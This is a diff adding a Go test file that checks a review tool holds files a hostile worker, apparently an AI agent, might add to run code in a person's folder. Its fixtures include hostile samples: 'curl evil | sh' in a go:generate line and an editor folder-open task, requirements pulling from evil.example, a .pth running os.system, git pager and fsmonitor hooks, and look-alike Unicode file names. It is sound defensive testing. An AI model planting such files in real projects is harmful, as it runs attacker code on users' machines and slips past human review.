@@ -1,0 +1,171 @@
+package proposal
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// Attacks on the review by a hostile worker, written from what docs/proposals.md promises
+// (Control files, Names that deceive, Tests in the review): each case is a file that would
+// run code, or change what runs, the next time the person works in the folder.
+
+// Files that run without the person naming them — on opening the folder in an editor, on
+// starting Python or pytest, a version manager entering the folder, a container build, an
+// install — are held; so are names that a case-insensitive or Windows file system takes for
+// a held one, a flow under any extension, and what a content rule finds (a requirement or a
+// Go module from outside the registry, a go:generate line).
+func TestAttackFilesThatRunCodeAreHeld(t *testing.T) {
+	file := func(s string) version { return version{exists: true, data: []byte(s), known: true} }
+	none := version{known: true}
+	cr := controlRules{flowFile: "flows/f.yaml", uses: []FlowUse{
+		{Path: "agents/lead.sh", Use: "agent lead's runtime.command"},
+		{Path: "docs/rules", Use: "commonRules.ruleChainRefs"},
+	}}
+	const gomod = "module x\n\ngo 1.22\n\nrequire (\n\tgolang.org/x/text v0.1.0 // indirect\n)\n"
+	for _, c := range []struct {
+		path          string
+		before, after version
+		held          bool
+	}{
+		// Run when the editor opens the folder, or its linter and formatter extensions start.
+		{".eslintrc.js", none, file("require('child_process').execSync('x')"), true},
+		{"eslint.config.mjs", none, file("x"), true},
+		{".prettierrc.cjs", none, file("x"), true},
+		{"jest.config.ts", none, file("x"), true},
+		{"web/vitest.config.mts", none, file("x"), true},
+		// Python runs these by itself.
+		{"conftest.py", none, file("import os"), true},
+		{"tests/conftest.py", file("a"), file("b"), true},
+		{"src/sitecustomize.py", none, file("x"), true},
+		{"lib/evil.pth", none, file("import os; os.system('x')"), true},
+		{"pytest.ini", none, file("[pytest]\naddopts = -p evil\n"), true},
+		// Which interpreter or compiler runs.
+		{".nvmrc", none, file("v99"), true},
+		{".python-version", none, file("3.12"), true},
+		{"rust-toolchain.toml", none, file("[toolchain]\npath = \"/tmp/evil\"\n"), true},
+		{".env.local", none, file("NODE_OPTIONS=--require ./evil.js"), true},
+		// Containers, package managers, git.
+		{"Dockerfile", none, file("FROM alpine"), true},
+		{"docker-compose.yml", none, file("services: {x: {privileged: true}}"), true},
+		{"compose.override.yaml", none, file("x"), true},
+		{"package.yaml", none, file("scripts: {preinstall: x}"), true},
+		{"Pipfile", none, file("x"), true},
+		{"go.work", none, file("go 1.22\nuse ../../evil\n"), true},
+		{".gitconfig", none, file("[core]\n\tfsmonitor = x\n"), true},
+		{"CMakeLists.txt", file("a"), file("b"), true},
+		{"pom.xml", file("a"), file("b"), true},
+		// Names a file system takes for a held one: Unicode case folding (APFS: "ſ" is "s", the
+		// Kelvin sign is "k"), upper-casing (NTFS: "ı" is "I"), trailing dots.
+		{".gıthub/workflows/ci.yml", none, file("on: push"), true},
+		{".devcontaıner/devcontainer.json", none, file("{}"), true},
+		{"Ma\u212aefile", none, file("x"), true},
+		{"ju\u017ftfile", none, file("x"), true},
+		{"Flows/F.yaml", file("a: 1"), file("a: 2"), true}, // the run's own flow, by another case
+		// A flow under an extension that is not YAML's: agentcanvas run takes any.
+		{"flows/nightly.txt", none, file("version: 0.2\nagents:\n  - id: x\n    role: worker\ninteractions: []\n"), true},
+		// What the run's flow runs or gives its agents as rules.
+		{"agents/lead.sh", file("echo ok"), file("echo pwned"), true},
+		{"docs/rules/style.md", file("a"), file("b"), true},
+		// Content rules.
+		{"requirements.txt", file("requests==2.0\n"), file("requests==2.0\ngit+https://evil.example/x.git#egg=x\n"), true},
+		{"requirements-dev.txt", none, file("--extra-index-url https://evil.example/simple\npytest\n"), true},
+		{"requirements/base.txt", none, file("x @ https://evil.example/x.whl\n"), true},
+		{"requirements.txt", none, file("-e ../evil\n"), true},
+		{"go.mod", file(gomod), file(gomod + "\nreplace golang.org/x/text => ../../evil\n"), true},
+		{"go.mod", file(gomod), file(strings.Replace(gomod, "go 1.22", "go 1.22\ntoolchain go1.99.0", 1)), true},
+		{"go.mod", file(gomod), file(gomod + "\ntool example.com/evil\n"), true},
+		{"gen.go", file("package x\n"), file("package x\n\n//go:generate sh -c \"curl evil | sh\"\n"), true},
+		// Not held: ordinary code, data and registry dependencies.
+		{"requirements.txt", file("requests==2.0\n"), file("requests==2.1 ; python_version >= \"3.8\"\nflask[async]>=2,<3 --hash=sha256:0a1b\n# a comment\n"), false},
+		{"go.mod", file(gomod), file(strings.Replace(gomod, "v0.1.0", "v0.2.0", 1)), false},
+		{"main.go", file("package x\n//go:generate stringer -type=T\n"), file("package x\n//go:generate stringer -type=T\nfunc f() {}\n"), false},
+		{"tests/__init__.py", none, file("import os"), false},
+		{"src/app.py", file("a"), file("b"), false},
+		{".editorconfig", none, file("root = true"), false},
+		{"tsconfig.json", none, file(`{"compilerOptions": {}}`), false},
+		{"docs/agents.txt", none, file("agents are people who act"), false},
+		{"notes/café.md", none, file("x"), false},
+		{"src/config.json", none, file(`{"port": 80}`), false},
+	} {
+		got := cr.classify(c.path, c.before, c.after)
+		if (got != "") != c.held {
+			t.Errorf("%s: held %q, want held=%v", c.path, got, c.held)
+		}
+	}
+}
+
+// A file added inside a folder that a tool reads as a whole is held for where it is: an
+// embedded git repository (its config runs core.pager or core.fsmonitor when a person runs
+// git in it, or a shell prompt does), a Python virtual environment (a .pth file runs at every
+// start); so is a file reached through a symbolic link at the root named like a held folder
+// (.vscode -> editor), and a path written as a Windows short name (VSCODE~1).
+func TestAttackFoldersHeldForWhatTheyHold(t *testing.T) {
+	ws, paths := prepared(t, map[string]string{
+		"README.md":        "F:hi\n",
+		".venv/pyvenv.cfg": "F:home = /usr/bin\n",
+		".venv/lib/python3.12/site-packages/x.py": "F:x = 1\n",
+		"editor/tasks.json":                       "F:{}\n",
+		".vscode":                                 "L:editor",
+		"tools/keep.txt":                          "F:x\n",
+	})
+	bare := "[core]\n\tbare = true\n\tpager = \"touch /tmp/pwned; cat\"\n\tfsmonitor = \"touch /tmp/pwned\"\n"
+	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{
+		"tools/cache/HEAD":                            "ref: refs/heads/main\n",
+		"tools/cache/config":                          bare,
+		"tools/cache/refs/heads/main.keep":            "x\n",
+		".venv/lib/python3.12/site-packages/evil.py":  "import os\n",
+		"editor/tasks.json":                           `{"tasks":[{"command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}`,
+		"VSCODE~1/settings.json":                      "{}\n",
+		"README.md":                                   "hi there\n",
+		"tools/notes.txt":                             "not in the repository folder\n",
+		".venv/lib/python3.12/site-packages/x.py":     "x = 2\n",
+		".venv/lib/python3.12/site-packages/more.pth": "import os\n",
+	})
+	want := []string{
+		".venv/lib/python3.12/site-packages/evil.py", ".venv/lib/python3.12/site-packages/more.pth",
+		".venv/lib/python3.12/site-packages/x.py", "VSCODE~1/settings.json", "editor/tasks.json",
+		"tools/cache/HEAD", "tools/cache/config", "tools/cache/refs/heads/main.keep",
+	}
+	before := snapshot(t, ws, true)
+	_, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{})
+	var he *HeldError
+	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), want) {
+		t.Fatalf("want held %v, got %v", want, err)
+	}
+	for _, h := range he.Held {
+		switch {
+		case strings.HasPrefix(h.Path, "tools/cache/") && !strings.Contains(h.Reason, "git reads as a repository"),
+			strings.HasPrefix(h.Path, ".venv/") && !strings.Contains(h.Reason, "virtual environment") && !strings.HasSuffix(h.Path, ".pth"),
+			h.Path == "editor/tasks.json" && !strings.Contains(h.Reason, "symbolic link .vscode"),
+			h.Path == "VSCODE~1/settings.json" && (h.Kind != HoldName || !strings.Contains(h.Reason, "short name")):
+			t.Errorf("%s held because %q", h.Path, h.Reason)
+		}
+	}
+	if d := diffSnapshots(before, snapshot(t, ws, true)); d != "" {
+		t.Fatalf("a held apply changed the workspace:\n%s", d)
+	}
+	if _, err := Apply(context.Background(), ws, ref, Selection{}, ApplyOptions{Confirm: want}); err != nil {
+		t.Fatalf("every held file confirmed: %v", err)
+	}
+}
+
+// The workspace root made into a git repository's folder by the proposal alone is held too.
+func TestAttackWorkspaceRootMadeARepository(t *testing.T) {
+	ws, paths := prepared(t, map[string]string{"README.md": "F:hi\n"})
+	ref := makeProposal(t, ws, paths.WorkDir, map[string]string{
+		"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tpager = evil\n", "objects/info/packs": "\n",
+	})
+	_, err := Check(context.Background(), ws, ref, Selection{}, ApplyOptions{})
+	var he *HeldError
+	if !errors.As(err, &he) || !slices.Equal(heldPaths(he.Held), []string{"HEAD", "config", "objects/info/packs"}) {
+		t.Fatalf("want HEAD, config and objects held: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(ws, "config")); err == nil {
+		t.Fatal("a check wrote to the workspace")
+	}
+}
